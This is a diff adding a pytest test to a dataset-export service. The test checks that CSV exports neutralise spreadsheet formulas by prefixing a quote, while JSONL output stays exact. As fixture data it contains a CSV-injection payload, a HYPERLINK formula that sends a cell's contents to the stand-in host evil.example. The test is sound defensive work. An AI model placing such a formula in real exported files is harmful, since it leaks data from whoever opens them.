@@ -9,6 +9,7 @@ import pytest
 from sqlalchemy import text
 
 from app.db.enums import Split
+from app.db.models import Response
 from app.services import export, gold, labelers
 from app.services.errors import Invalid, NotFound
 from tests.conftest import make_user
@@ -150,6 +151,26 @@ def test_annotations_csv_has_one_row_per_rating(session, labeled):
     ranks = {int(r["response_id"]): r["rank"] for r in flagged}
     assert [ranks[i] for i in tasks[1][1]] == ["1", "2", "2"]
     assert json.loads(flagged[0]["prompt_flags"]) == ["unclear"] and json.loads(flagged[0]["response_flags"]) == []
+
+
+def test_annotations_csv_neutralises_spreadsheet_formulas(session):
+    """A labeler's comment or a model's response that starts like a formula is written
+    with a leading ' (OWASP's CSV-injection rule), so a spreadsheet shows it as text."""
+    ps = make_set(session, k=3, overlap=1)
+    task, ids = make_task(session, ps, messages=[{"role": "user", "content": "@SUM(A1:A9)"}])
+    annotation = annotate(session, task, ids, make_user(session, username="@x-sum"), [1, 2, 3])
+    annotation.comment = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
+    for response_id, text_ in zip(ids, ["+1+1", "-2+3", "\tcell"]):
+        session.get(Response, response_id).text = text_
+    session.flush()
+    rows = list(csv.DictReader(io.StringIO(_run(session, "annotations", "csv", ps.id)[1])))
+    assert rows[0]["comment"] == ''''=HYPERLINK("http://evil.example/?leak="&A1,"click me")'''
+    assert rows[0]["labeler"] == "'@x-sum" and rows[0]["prompt"] == "'@SUM(A1:A9)"
+    assert {r["response_text"] for r in rows} == {"'+1+1", "'-2+3", "'\tcell"}
+    assert rows[0]["prompt_flags"] == "[]" and rows[0]["rank"] in {"1", "2", "3"}  # other cells as they were
+    # JSON lines are data, not a spreadsheet: the texts stay exact there.
+    line = _lines(_run(session, "annotations", "jsonl", ps.id)[1])[0]
+    assert line["comment"].startswith("=HYPERLINK(") and {r["text"] for r in line["ratings"]} == {"+1+1", "-2+3", "\tcell"}
 
 
 def test_filters_split_labelers_dates(session, labeled):
